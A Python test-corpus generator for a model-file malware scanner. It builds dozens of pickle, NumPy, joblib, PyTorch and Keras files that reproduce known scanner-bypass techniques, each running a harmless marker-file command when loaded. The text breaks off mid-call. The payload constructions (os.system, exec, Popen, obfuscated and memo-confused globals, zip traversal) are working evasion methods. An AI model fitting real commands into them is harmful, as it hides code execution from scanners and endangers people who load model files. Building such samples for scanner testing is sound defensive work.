"""Malicious and benign model files for the scanner's tests and benchmark, built on the spot.

Every malicious payload is harmless: when loaded it only creates the marker file it is
given (``touch MARKER`` or ``open(MARKER, "w")``).  Each sample names the bypass family it
reproduces (picklescan#14, modelscan#85, ...), the loader that would run it, and whether
it is live (the payload really runs under that loader on this machine) so the benchmark
can prove the corpus is real with ``--verify-live`` (``bench_scan._LOADERS`` says what each
loader name runs; a folder sample names the file its loader opens in ``target``).

Round 2 (issue 8) adds the loaders' own semantics: pickles without PROTO, multi-stream
files, nullifAI broken tails, pickle+zip polyglots, case-changed / duplicate / zip64 zip
members and odd archive folders, pre-0.4 torch tars (v7 too), every ``.npy`` spelling of an
object dtype, joblib dumps, Keras configs, TorchScript code (``__setstate__`` runs on
load), HF folders (payloads in files a folder scan might skip, remote code, chat templates).

Nothing here is imported by the keishiki package.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

# ---- opcode helpers -----------------------------------------------------------------------


def u(text: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE of ``text``."""
    b = text.encode("utf-8")
    return (b"\x8c" + bytes([len(b)]) + b) if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def sbytes(data: bytes) -> bytes:
    """SHORT_BINBYTES / BINBYTES."""
    return (
        (b"C" + bytes([len(data)]) + data)
        if len(data) < 256
        else b"B" + struct.pack("<I", len(data)) + data
    )


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL module.name."""
    return u(module) + u(name) + b"\x93"


def long_name_call(command: str, tail: bytes) -> bytes:
    """``os.path.os....system(command)`` by a protocol-4 STACK_GLOBAL whose dotted name is
    over the scan's 1000-character cut (the report shows it shortened), in a stream that
    opens with ``N0`` (so the scan only tries it as a maybe-pickle), then ``tail``."""
    return b"N0" + P4 + sg("os", "path.os." * 130 + "system") + u(command) + b"\x85R" + tail


def g0(module: str, name: str) -> bytes:
    """Protocol-0 GLOBAL."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def s0(text: str) -> bytes:
    """Protocol-0 STRING (Python 2 str)."""
    return b"S" + repr(text).encode() + b"\n"


def call(fn: bytes, *args: bytes) -> bytes:
    """fn(*args) with MARK ... TUPLE REDUCE."""
    return fn + b"(" + b"".join(args) + b"tR"


P4 = b"\x80\x04"
STOP = b"."


class Reduce:
    """An object that pickles as ``func(*args)``."""

    def __init__(self, func, args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


# ---- samples ------------------------------------------------------------------------------


@dataclass
class Sample:
    name: str
    family: str  # the bypass family / issue it reproduces
    path: Path
    loader: str  # pickle | pickle-all | torch | numpy | joblib | torchscript | keras
    #                       | keras-unsafe (safe_mode=False) |
    #                       hf-remote-code | none (what would run it; see bench_scan._LOADERS)
    live: bool = True  # the payload runs under ``loader`` here
    target: Path | None = None  # the file the loader opens when ``path`` is a folder


def _touch(marker: Path) -> str:
    return f"touch {marker}"


def _pyopen(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _write(path: Path, data: bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def _payload_pickles(marker: Path) -> dict[str, tuple[str, bytes, bool]]:
    """name -> (family, pickle bytes, live) for raw pickle payloads."""
    cmd = _touch(marker)
    code = _pyopen(marker)
    out: dict[str, tuple[str, bytes, bool]] = {}
    for proto in range(6):
        out[f"reduce_os_system_p{proto}"] = (
            "plain __reduce__ os.system, protocol %d" % proto,
            pickle.dumps({"weights": [1.0, 2.0], "x": Reduce(os.system, (cmd,))}, protocol=proto),
            True,
        )
    out["py2_builtin_eval"] = (
        "Python 2 pickle: __builtin__.eval (fix_imports)",
        call(g0("__builtin__", "eval"), s0(code)) + STOP,
        True,
    )
    out["py2_builtin_exec_p2"] = (
        "Python 2 style protocol 2: __builtin__.exec",
        b"\x80\x02" + call(g0("__builtin__", "exec"), s0(code)) + STOP,
        True,
    )
    out["py2_mapped_stack_global"] = (
        "protocol 2 STACK_GLOBAL of a py2 name (commands -> subprocess by fix_imports)",
        b"\x80\x02" + sg("commands", "getoutput") + u(cmd) + b"\x85R" + STOP,
        True,
    )
    out["builtins_open_p4"] = (
        "builtins.open writes a file",
        P4 + sg("builtins", "open") + u(str(marker)) + u("w") + b"\x86R" + STOP,
        True,
    )
    # picklescan#14: memo written by BINPUT and MEMOIZE mixed, STACK_GLOBAL from BINGET
    out["memo_mix_binput_memoize"] = (
        "picklescan#14 memo confusion (BINPUT + MEMOIZE)",
        P4
        + u("os")
        + b"q\x00"
        + b"0"
        + u("system")
        + b"q\x01"
        + b"0"
        + u("torch._utils")
        + b"\x94"
        + b"0"
        + u("_rebuild_tensor_v2")
        + b"\x94"
        + b"0"
        + b"h\x00h\x01\x93"
        + u(cmd)
        + b"\x85R"
        + STOP,
        True,
    )
    # picklescan#22 / PR#23: memo filled out of order with PUT/GET
    out["memo_out_of_order"] = (
        "picklescan#22 memo out of order (PUT 2,3 then 0,1)",
        b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(V"
        + cmd.encode()
        + b"\ntR.",
        True,
    )
    # modelscan#85: BUILD sets attributes on numpy.prod, then STACK_GLOBAL of those attributes
    out["modelscan85_build_attrs"] = (
        "modelscan#85 BUILD on a global + dotted GLOBAL + memo STACK_GLOBAL",
        b"\x80\x05"
        + g0("numpy", "prod")
        + b"N(Va\nVos\nd\x86b"
        + b"N(Vb\nVsystem\nd\x86b"
        + b"0"
        + g0("numpy", "prod.a")
        + b"p0\n"
        + g0("numpy", "prod.b")
        + b"p1\n"
        + b"00"
        + b"g0\ng1\n\x93V"
        + cmd.encode()
        + b"\n\x85R.",
        True,
    )
    # modelscan#330: numpy.__builtins__ through BUILD/STACK_GLOBAL, then eval
    out["modelscan330_numpy_builtins"] = (
        "modelscan#330 numpy.__builtins__ + eval via REDUCE on a call result",
        P4
        + sg("numpy", "size")
        + b"\x94\x94"
        + sg("numpy", "__builtins__")
        + b"\x94\x94"
        + b"h\x01}}"
        + u("shape")
        + b"h\x03s\x86b"
        + b"h\x01h\x01"
        + u("eval")
        + b"\x86R"
        + u(f"__import__('os').system({cmd!r})")
        + b"\x85R"
        + STOP,
        False,
    )
    # modelscan#331: importlib.import_module + builtins.getattr chain
    out["modelscan331_importlib_getattr"] = (
        "modelscan#331 importlib.import_module + getattr chain",
        P4
        + sg("builtins", "getattr")
        + b"\x94"
        + sg("importlib", "import_module")
        + u("os")
        + b"\x85R"
        + u("system")
        + b"\x86R"
        + u(cmd)
        + b"\x85R"
        + STOP,
        True,
    )
    inner = pickle.dumps(Reduce(os.system, (cmd,)), protocol=2)
    out["modelscan267_nested_pickle_loads"] = (
        "modelscan#267 nested pickle.loads",
        P4 + sg("pickle", "loads") + sbytes(inner) + b"\x85R" + STOP,
        True,
    )
    out["pr74_importlib"] = (
        "picklescan PR#74 importlib bypass",
        P4
        + sg("builtins", "getattr")
        + sg("importlib", "import_module")
        + u("os")
        + b"\x85R"
        + u("system")
        + b"\x86R"
        + u(cmd)
        + b"\x85R"
        + STOP,
        True,
    )
    import marshal

    blob = marshal.dumps(compile(code, "<p>", "exec"))
    out["pr74_marshal_functiontype"] = (
        "picklescan PR#74 marshal.loads + types.FunctionType",
        P4
        + sg("types", "FunctionType")
        + sg("marshal", "loads")
        + sbytes(blob)
        + b"\x85R"
        + b"}\x86R)R"
        + STOP,
        True,
    )
    out["pip_main"] = (
        "pip.main (pip list, writing its log to the marker)",
        P4 + sg("pip", "main") + b"](" + u("--log") + u(str(marker)) + u("list") + b"e\x85R" + STOP,
        True,
    )
    out["numpy_runstring"] = (
        "numpy.testing._private.utils.runstring",
        P4 + sg("numpy.testing._private.utils", "runstring") + u(code) + b"}\x86R" + STOP,
        True,
    )
    out["copyreg_reconstructor_popen"] = (
        "copyreg._reconstructor with subprocess.Popen as class and base",
        P4
        + sg("copyreg", "_reconstructor")
        + sg("subprocess", "Popen")
        + sg("subprocess", "Popen")
        + b"]("
        + u("touch")
        + u(str(marker))
        + b"e\x87R"
        + STOP,
        True,
    )
    out["ext1_registry"] = (
        "EXT1 opcode (copyreg extension registry)",
        P4 + b"\x82\x01" + u(cmd) + b"\x85R" + STOP,
        False,
    )
    out["newobj_ex_popen"] = (
        "NEWOBJ_EX of subprocess.Popen",
        P4 + sg("subprocess", "Popen") + b"](" + u("touch") + u(str(marker)) + b"e\x85}\x92" + STOP,
        False,
    )
    out["inst_p0_subprocess_call"] = (
        "INST protocol 0 (subprocess.call)",
        b"((lp0\n" + s0("touch") + b"a" + s0(str(marker)) + b"a" + b"isubprocess\ncall\n" + STOP,
        True,
    )
    out["obj_p1_os_system"] = (
        "OBJ protocol 1 (os.system)",
        b"(" + g0("os", "system") + s0(cmd) + b"o" + STOP,
        True,
    )
    out["getattr_import_chain"] = (
        "builtins.getattr(__import__('os'), 'system')",
        P4
        + sg("builtins", "getattr")
        + sg("builtins", "__import__")
        + u("os")
        + b"\x85R"
        + u("system")
        + b"\x86R"
        + u(cmd)
        + b"\x85R"
        + STOP,
        True,
    )
    out["operator_methodcaller"] = (
        "operator.methodcaller gadget",
        P4
        + sg("operator", "methodcaller")
        + u("system")
        + u(cmd)
        + b"\x86R"
        + sg("importlib", "import_module")
        + u("os")
        + b"\x85R"
        + b"\x85R"
        + STOP,
        True,
    )
    out["codecs_rot13_exec"] = (
        "_codecs.decode feeding builtins.exec",
        P4
        + sg("builtins", "exec")
        + sg("_codecs", "decode")
        + u(__import__("codecs").encode(code, "rot13"))
        + u("rot13")
        + b"\x86R\x85R"
        + STOP,
        True,
    )
    out["functools_partial"] = (
        "functools.partial wrapper",
        P4 + sg("functools", "partial") + sg("os", "system") + u(cmd) + b"\x86R)R" + STOP,
        True,
    )
    out["timeit_timeit"] = (
        "timeit.timeit (picklescan GHSA): the payload is the setup code",
        P4
        + sg("timeit", "timeit")
        + u("pass")
        + u(f"__import__('os').system({cmd!r})")
        + b"\x86R"
        + STOP,
        True,
    )
    out["mailcap_findmatch"] = (
        "mailcap.findmatch runs a 'test' command (modelscan PR#346)",
        P4
        + sg("mailcap", "findmatch")
        + b"}"
        + u("text/plain")
        + b"]}("
        + u("view")
        + u("x")
        + u("test")
        + u(cmd)
        + b"uas"
        + u("text/plain")
        + b"\x86R"
        + STOP,
        True,
    )
    out["spawnv_passfds"] = (
        "multiprocessing.util.spawnv_passfds (modelscan#338)",
        P4
        + sg("multiprocessing.util", "spawnv_passfds")
        + sbytes(b"/bin/sh")
        + u("/bin/sh")
        + u("-c")
        + u(cmd)
        + b"\x87"
        + b")\x87R"
        + STOP,
        True,
    )
    out["sqlite3_connect"] = (
        "sqlite3.connect creates a file",
        P4 + sg("sqlite3", "connect") + u(str(marker)) + b"\x85R" + STOP,
        True,
    )
    out["zipfile_write"] = (
        "zipfile.ZipFile(path, 'w') creates a file",
        P4 + sg("zipfile", "ZipFile") + u(str(marker)) + u("w") + b"\x86R" + STOP,
        True,
    )
    out["torch_collect_env_run"] = (
        "torch.utils.collect_env.run (modelscan#338)",
        P4 + sg("torch.utils.collect_env", "run") + u(cmd) + b"\x85R" + STOP,
        True,
    )
    out["shutil_copyfile"] = (
        "shutil.copyfile writes a file",
        P4 + sg("shutil", "copyfile") + u(os.devnull) + u(str(marker)) + b"\x86R" + STOP,
        True,
    )
    out["dotted_name_walk"] = (
        "dotted name from an allowlisted module (torch.os.system)",
        P4 + sg("torch", "os.system") + u(cmd) + b"\x85R" + STOP,
        True,
    )
    out["unicode_escape_names"] = (
        "UNICODE with escapes spelling os.system",
        b"\x80\x04V\\u006fs\nVs\\u0079stem\n\x93V" + cmd.encode() + b"\n\x85R.",
        True,
    )
    out["os_trailing_space"] = (
        "module name with a trailing space (scanner string match)",
        P4 + sg("os ", "system") + u(cmd) + b"\x85R" + STOP,
        False,
    )
    out["fullwidth_unicode_module"] = (
        "fullwidth Unicode module name",
        P4 + sg("\uff4f\uff53", "system") + u(cmd) + b"\x85R" + STOP,
        False,
    )
    out["stack_global_from_call"] = (
        "STACK_GLOBAL operands produced by a call (str.join)",
        P4
        + sg("builtins", "str")
        + b"\x94"
        + u("")
        + u("join")
        + b"\x86"
        + b"0"
        + u("o")
        + u("s")
        + b"\x86"
        + b"0"
        + u("os")
        + sg("builtins", "str")
        + u("system")
        + b"\x85R\x93"
        + u(cmd)
        + b"\x85R"
        + STOP,
        True,
    )
    benign = pickle.dumps({"epoch": 3, "lr": 0.1}, protocol=2)
    out["benign_then_payload"] = (
        "benign pickle followed by a payload pickle",
        benign + pickle.dumps(Reduce(os.system, (cmd,)), protocol=4),
        False,
    )
    evil = P4 + sg("os", "system") + u(cmd) + b"\x85R"
    out["truncated_after_reduce"] = (
        "truncated right after the dangerous REDUCE (no STOP)",
        evil,
        True,
    )
    out["garbage_after_payload"] = (
        "payload then an invalid opcode (EDP, picklescan PR#46)",
        evil + b"\xff" + STOP,
        True,
    )
    out["dangerous_then_bad_memo"] = (
        "payload then BINGET of a missing memo key (modelscan#338)",
        evil + b"h\x63" + STOP,
        True,
    )
    return out


def _torch_save(obj, path: Path, legacy: bool = False) -> Path:
    import torch

    path.parent.mkdir(parents=True, exist_ok=True)
    torch.save(obj, path, _use_new_zipfile_serialization=not legacy)
    return path


def _rezip(
    src: Path,
    dst: Path,
    rename: Callable[[str], str] | None = None,
    extra: dict[str, bytes] | None = None,
    replace: dict[str, bytes] | None = None,
) -> Path:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            for suffix, new in (replace or {}).items():
                if info.filename.endswith(suffix):
                    data = new
            zout.writestr(rename(info.filename) if rename else info.filename, data)
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    return dst


def _patch_zip(path: Path, member_suffix: str, crc: bool = False, flag: bool = False) -> Path:
    """Corrupt the CRC or set the 'encrypted' flag bit of one member (central + local)."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = next(i for i in zf.infolist() if i.filename.endswith(member_suffix))
    pos = 0
    while True:
        pos = data.find(b"PK\x01\x02", pos)
        if pos < 0:
            break
        n = struct.unpack("<H", data[pos + 28 : pos + 30])[0]
        if data[pos + 46 : pos + 46 + n].decode() == info.filename:
            if crc:
                data[pos + 16 : pos + 20] = b"\xde\xad\xbe\xef"
            if flag:
                data[pos + 8] |= 1
        pos += 4
    off = info.header_offset
    if crc:
        data[off + 14 : off + 18] = b"\xde\xad\xbe\xef"
    if flag:
        data[off + 6] |= 1
    path.write_bytes(bytes(data))
    return path


def _legacy_parts(path: Path) -> list[bytes]:
    """The five pickles of a legacy torch file and the storage bytes after them."""
    from keishiki.core.pickle_reader import read_pickle

    data = path.read_bytes()
    parts, pos = [], 0
    for _ in range(5):
        rec = read_pickle(data, pos)
        parts.append(data[pos : rec.end])
        pos = rec.end
    parts.append(data[pos:])
    return parts


def malicious(root: Path, marker: Path, with_torch: bool = True) -> list[Sample]:
    """Build every malicious sample under ``root``; loading any live one creates ``marker``."""
    root.mkdir(parents=True, exist_ok=True)
    out: list[Sample] = []
    pickles = _payload_pickles(marker)
    for name, (family, data, live) in pickles.items():
        ext = ".pkl" if not name.startswith("py2") else ".p"
        out.append(Sample(name, family, _write(root / f"{name}{ext}", data), "pickle", live))
    evil = pickles["reduce_os_system_p4"][1]
    # a raw pickle disguised by extension
    out.append(
        Sample(
            "pickle_as_bin",
            "payload pickle named pytorch_model.bin",
            _write(root / "disguised" / "pytorch_model.bin", evil),
            "pickle",
        )
    )
    # NumPy: object arrays are pickles
    hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    hdr = hdr + " " * (63 - (10 + len(hdr)) % 64) + "\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode() + evil
    out.append(
        Sample(
            "npy_object_payload",
            "np.load(allow_pickle=True) object array",
            _write(root / "obj.npy", npy),
            "numpy",
        )
    )
    npz = io.BytesIO()
    with zipfile.ZipFile(npz, "w") as zf:
        zf.writestr("arr_0.npy", npy)
    out.append(
        Sample(
            "npz_object_payload",
            "npz holding an object .npy",
            _write(root / "obj.npz", npz.getvalue()),
            "numpy",
        )
    )
    # zip tricks without torch
    zbuf = io.BytesIO()
    with zipfile.ZipFile(zbuf, "w") as zf:
        zf.writestr("../../evil.pkl", evil)
    out.append(
        Sample(
            "zip_dotdot_member",
            "zip member named ../ (path traversal) with a payload",
            _write(root / "traversal.zip", zbuf.getvalue()),
            "none",
            False,
        )
    )
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as zf:
        zf.writestr("archive/data.pkl", evil)
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w") as zf:
        zf.writestr("model/inner.pt", inner.getvalue())
    out.append(
        Sample(
            "nested_zip",
            "payload in a zip inside a zip",
            _write(root / "nested.zip", outer.getvalue()),
            "none",
            False,
        )
    )
    import tarfile

    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w") as tf:
        ti = tarfile.TarInfo("pickle")
        ti.size = len(evil)
        tf.addfile(ti, io.BytesIO(evil))
    out.append(
        Sample(
            "tar_member_payload",
            "pre-0.4 torch tar layout with a payload member",
            _write(root / "old.tar.pt", tbuf.getvalue()),
            "none",
            False,
        )
    )
    # Keras Lambda layer (serialized bytecode)
    kbuf = io.BytesIO()
    cfg = (
        '{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", '
        '"config": {"name": "lambda", "function": {"class_name": "__lambda__", "config": '
        '{"code": "4wEAAAAAAAAAAAAAAAEAAAAD"}}}}]}}'
    )
    with zipfile.ZipFile(kbuf, "w") as zf:
        zf.writestr("config.json", cfg)
        zf.writestr("metadata.json", '{"keras_version": "3.15.1"}')
        zf.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n")
    out.append(
        Sample(
            "keras_lambda",
            "Keras v3 .keras with a Lambda layer",
            _write(root / "lambda.keras", kbuf.getvalue()),
            "keras",
            False,
        )
    )
    try:
        import h5py

        hp = root / "lambda.h5"
        with h5py.File(hp, "w") as fh:
            fh.attrs["model_config"] = cfg.replace("Sequential", "Functional")
            fh.attrs["keras_version"] = "2.15.0"
            fh.attrs["backend"] = "tensorflow"
            fh.create_group("model_weights")
        out.append(
            Sample("keras_h5_lambda", "Keras HDF5 model with a Lambda layer", hp, "keras", False)
        )
    except ImportError:
        pass
    out.extend(_more_samples(root, marker, evil))
    if with_torch:
        out.extend(_torch_samples(root, marker, evil))
        out.extend(_more_torch_samples(root, marker, evil))
    return out


def _torch_samples(root: Path, marker: Path, evil: bytes) -> list[Sample]:
    import torch

    cmd = _touch(marker)
    out: list[Sample] = []
    sd = {"w": torch.arange(6, dtype=torch.float32).reshape(2, 3), "b": torch.zeros(3)}
    obj = dict(sd, hook=Reduce(os.system, (cmd,)))
    z = _torch_save(obj, root / "torch_zip_reduce.pt")
    out.append(
        Sample(
            "torch_zip_reduce", "torch.save zip checkpoint with a __reduce__ payload", z, "torch"
        )
    )
    out.append(
        Sample(
            "torch_zip_renamed_prefix",
            "zip checkpoint with archive/ renamed",
            _rezip(z, root / "renamed.pt", lambda n: "weights/" + n.split("/", 1)[1]),
            "torch",
        )
    )
    clean = _torch_save(sd, root / "_clean.pt")
    out.append(
        Sample(
            "torch_zip_extra_member",
            "payload in a non-data.pkl zip member",
            _rezip(clean, root / "extra_member.pt", extra={"archive/extra/state.pkl": evil}),
            "none",
            False,
        )
    )
    out.append(
        Sample(
            "torch_zip_bad_crc",
            "CRC of data.pkl corrupted (CVE-2025-10156)",
            _patch_zip(_rezip(z, root / "bad_crc.pt"), "data.pkl", crc=True),
            "torch",
        )
    )
    out.append(
        Sample(
            "torch_zip_encrypted_flag",
            "encrypted flag bit set (GHSA-w8jq-xcqf-f792)",
            _patch_zip(_rezip(z, root / "flag.pt"), "data.pkl", flag=True),
            "torch",
            live=False,
        )
    )  # torch 2.13 refuses it; older readers ignored the flag
    out.append(
        Sample(
            "torch_zip_dotdot_member",
            "checkpoint with a ../ member name",
            _rezip(clean, root / "dotdot.pt", extra={"../../../tmp/x.pkl": evil}),
            "none",
            False,
        )
    )
    out.append(
        Sample(
            "torch_zip_payload_in_storage_name",
            "payload pickle as data.pkl of an odd top folder",
            _rezip(
                clean,
                root / "odd_prefix.pt",
                lambda n: "a b c/" + n.split("/", 1)[1],
                replace={"/data.pkl": evil},
            ),
            "torch",
        )
    )
    leg = _torch_save(obj, root / "torch_legacy_reduce.pt", legacy=True)
    out.append(
        Sample(
            "torch_legacy_reduce",
            "legacy checkpoint with a payload in the main pickle",
            leg,
            "torch",
        )
    )
    parts = _legacy_parts(_torch_save(sd, root / "_clean_legacy.pt", legacy=True))
    out.append(
        Sample(
            "torch_legacy_sysinfo_payload",
            "legacy checkpoint, payload in sys_info",
            _write(root / "legacy_sysinfo.pt", b"".join(parts[:2] + [evil] + parts[3:])),
            "torch",
        )
    )
    out.append(
        Sample(
            "torch_legacy_keys_payload",
            "legacy checkpoint, payload in the storage keys pickle",
            _write(root / "legacy_keys.pt", b"".join(parts[:4] + [evil] + parts[5:])),
            "torch",
        )
    )
    out.append(
        Sample(
            "torch_magic_then_payload",
            "torch magic-number pickle then a payload",
            _write(root / "magic.pt", parts[0] + evil),
            "torch",
        )
    )
    out.append(
        Sample(
            "torch_legacy_trailing_payload",
            "payload appended after the storages",
            _write(root / "legacy_trailing.pt", b"".join(parts) + evil),
            "none",
            False,
        )
    )
    return out


def benign(root: Path, with_torch: bool = True) -> list[Sample]:
    """Legitimate files that look like the malicious ones (must not be flagged)."""
    import numpy as np

    root.mkdir(parents=True, exist_ok=True)
    out: list[Sample] = []
    arr = np.arange(12, dtype=np.float32).reshape(3, 4)
    for proto in (2, 3, 4, 5):
        out.append(
            Sample(
                f"numpy_pickle_p{proto}",
                "numpy arrays pickled",
                _write(
                    root / f"np_p{proto}.pkl",
                    pickle.dumps(
                        {
                            "a": arr,
                            "i": np.int64(3),
                            "dt": np.dtype("float16"),
                            "b": arr.astype(np.bool_),
                        },
                        protocol=proto,
                    ),
                ),
                "pickle",
                False,
            )
        )
    out.append(
        Sample(
            "plain_dict_p0",
            "plain data, protocol 0",
            _write(
                root / "plain_p0.pkl",
                pickle.dumps({"a": [1, 2.5, "x"], "s": {1, 2}, "c": 1j, "b": b"\x00\x01"}, 0),
            ),
            "pickle",
            False,
        )
    )
    from collections import OrderedDict

    out.append(
        Sample(
            "ordered_dict_p2",
            "OrderedDict of lists",
            _write(root / "od.pkl", pickle.dumps(OrderedDict(a=[1, 2]), 2)),
            "pickle",
            False,
        )
    )
    np.save(root / "arr.npy", arr)
    out.append(Sample("npy", "plain .npy", root / "arr.npy", "numpy", False))
    np.savez(root / "arrs.npz", a=arr, b=arr * 2)
    out.append(Sample("npz", "plain .npz", root / "arrs.npz", "numpy", False))
    if with_torch:
        import torch

        dtypes = [
            torch.float32,
            torch.float16,
            torch.bfloat16,
            torch.float64,
            torch.int8,
            torch.uint8,
            torch.int16,
            torch.int32,
            torch.int64,
            torch.bool,
            torch.complex64,
        ]
        sd = {f"t_{str(d)[6:]}": torch.ones(2, 3).to(d) for d in dtypes}
        sd["view"] = sd["t_float32"][1]
        sd["param"] = torch.nn.Parameter(torch.ones(2))
        out.append(
            Sample(
                "torch_zip_all_dtypes",
                "state_dict, zip, every dtype",
                _torch_save(sd, root / "sd_zip.pt"),
                "torch",
                False,
            )
        )
        out.append(
            Sample(
                "torch_legacy_all_dtypes",
                "state_dict, legacy, every dtype",
                _torch_save(sd, root / "sd_legacy.pt", legacy=True),
                "torch",
                False,
            )
        )
        model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
        opt = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
        model(torch.ones(1, 4)).sum().backward()
        opt.step()
        ckpt = {
            "model": model.state_dict(),
            "optimizer": opt.state_dict(),
            "epoch": 3,
            "np": np.arange(3),
            "size": torch.Size([2, 3]),
            "dev": torch.device("cpu"),
        }
        out.append(
            Sample(
                "torch_training_checkpoint",
                "training checkpoint (optimizer, epoch, numpy array)",
                _torch_save(ckpt, root / "ckpt.pt"),
                "torch",
                False,
            )
        )
        out.append(
            Sample(
                "torch_training_checkpoint_legacy",
                "training checkpoint, legacy",
                _torch_save(ckpt, root / "ckpt_legacy.pt", legacy=True),
                "torch",
                False,
            )
        )
        from safetensors.torch import save_file

        save_file({"w": torch.ones(2, 2)}, root / "model.safetensors")
        out.append(Sample("safetensors", "safetensors", root / "model.safetensors", "none", False))
        out.extend(_more_benign_torch(root))
    out.extend(_more_benign(root))
    return out


# ---- round 2 (issue 8): loader-semantics disguises -----------------------------------------
#
# Each family below was checked against the real loader on this machine (torch 2.13,
# numpy 2.4, joblib 1.6): ``live=True`` means ``benchmarks/bench_scan.py --verify-live``
# saw the marker appear when that loader opened the file.


def _npy(
    descr: str, payload: bytes, version: tuple[int, int] = (1, 0), header: str | None = None
) -> bytes:
    """A .npy whose header literal is written by hand (``descr`` verbatim) + ``payload``."""
    hdr = header or "{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % descr
    fmt = "<H" if version[0] == 1 else "<I"
    lead = 6 + 2 + struct.calcsize(fmt)
    hdr = hdr + " " * (63 - (lead + len(hdr)) % 64) + "\n"
    enc = hdr.encode("latin1" if version[0] < 3 else "utf8")
    return b"\x93NUMPY" + bytes(version) + struct.pack(fmt, len(enc)) + enc + payload


def _more_samples(root: Path, marker: Path, evil: bytes) -> list[Sample]:
    """Samples that need neither torch nor transformers (joblib and numpy are core deps)."""
    cmd = _touch(marker)
    call_sys = sg("os", "system") + u(cmd) + b"\x85R"
    out: list[Sample] = []
    r = root / "r2"
    # -- pickles that do not start with PROTO: pickle.load accepts any first opcode
    body = call_sys + STOP
    starts = {
        "noproto_frame_first": (
            "FRAME opcode first, no PROTO",
            b"\x95" + struct.pack("<Q", len(body)) + body,
        ),
        "noproto_short_binunicode_first": ("SHORT_BINUNICODE first, no PROTO", body),
        "noproto_newtrue_first": ("NEWTRUE + POP first, no PROTO", b"\x88" + b"0" + body),
        "noproto_empty_dict_first": (
            "EMPTY_DICT first, payload as a SETITEM value",
            b"}" + u("state") + call_sys + b"s" + STOP,
        ),
        "noproto_mark_first": (
            "MARK first (protocol-0 style dict) with a protocol-4 payload",
            b"(" + u("k") + call_sys + b"d" + STOP,
        ),
    }
    for name, (family, data) in starts.items():
        out.append(Sample(name, family, _write(r / f"{name}.pkl", data), "pickle"))
    # -- a payload after a benign first STOP: live for readers that load until EOF
    multi = pickle.dumps({"epoch": 1}, protocol=4) + pickle.dumps([1, 2], protocol=2) + evil
    out.append(
        Sample(
            "multi_pickle_third_stream",
            "two benign pickles, the payload is the "
            "third (loaded by readers that call pickle.load until EOF)",
            _write(r / "history.pkl", multi),
            "pickle-all",
        )
    )
    # -- nullifAI (ReversingLabs, 2025-02): the payload runs, then the stream breaks
    broken = b"\x80\x02}q\x00(" + u("weights") + call_sys + u("bias") + b"\xfe\xfe\xfe\xfe"
    out.append(
        Sample(
            "nullifai_broken_tail",
            "nullifAI: payload inside a dict, then the stream is broken (invalid opcodes, no STOP)",
            _write(r / "broken.pkl", broken),
            "pickle",
        )
    )
    out.append(
        Sample(
            "nullifai_truncated_mid_string",
            "nullifAI: payload, then a BINUNICODE whose length runs past the end of the file",
            _write(r / "truncated.pkl", P4 + call_sys + b"X\xff\xff\x00\x00abc"),
            "pickle",
        )
    )
    # -- .npy: every header spelling numpy's parser accepts for an object dtype
    npys = {
        "npy_descr_big_endian_O": ("npy descr '>O'", _npy("'>O'", evil)),
        "npy_descr_O8": ("npy descr 'O8'", _npy("'O8'", evil)),
        "npy_descr_object_word": ("npy descr 'object'", _npy("'object'", evil)),
        "npy_descr_escaped_O": (
            "npy descr '|\\x4f' (escape in the literal)",
            _npy("'|\\x4f'", evil),
        ),
        "npy_double_quoted_header": (
            "npy header with double-quoted keys and descr",
            _npy("", evil, header='{"descr": "|O", "fortran_order": False, "shape": (1,)}'),
        ),
        "npy_structured_object_field": (
            "npy structured dtype with an object field",
            _npy("[('w', '<f4'), ('o', '|O')]", evil),
        ),
        "npy_v3_object": (
            "npy format 3.0 (utf8 header) object dtype",
            _npy("'|O'", evil, version=(3, 0)),
        ),
        "npy_v2_object": (
            "npy format 2.0 (4-byte header length) object dtype",
            _npy("'|O'", evil, version=(2, 0)),
        ),
    }
    for name, (family, data) in npys.items():
        out.append(Sample(name, family, _write(r / f"{name}.npy", data), "numpy"))
    out.append(
        Sample(
            "npy_really_pickle",
            "a .npy that is a pickle (np.load allow_pickle falls back to pickle.load)",
            _write(r / "weights.npy", evil),
            "numpy",
        )
    )
    # -- joblib dumps (sklearn models): a joblib file is a pickle, maybe compressed
    import joblib

    for name, compress, ext in (
        ("joblib_payload", 0, ".joblib"),
        ("joblib_zlib_payload", 3, ".pkl"),
        ("joblib_lzma_payload", ("lzma", 3), ".xz"),
        ("joblib_gzip_payload", ("gzip", 3), ".gz"),
    ):
        path = r / f"{name}{ext}"
        path.parent.mkdir(parents=True, exist_ok=True)
        joblib.dump({"coef": [0.5], "clf": Reduce(os.system, (cmd,))}, path, compress=compress)
        out.append(
            Sample(name, f"joblib.dump with a payload (compress={compress!r})", path, "joblib")
        )
    # -- Keras v3 .keras files (config.json judged, never deserialized)
    out.extend(_keras_samples(r, marker))
    # -- GGUF: no pickles, but the chat template travels in the metadata
    try:
        import gguf
        import numpy as np

        path = r / "ssti.gguf"
        w = gguf.GGUFWriter(str(path), "llama")
        w.add_chat_template(
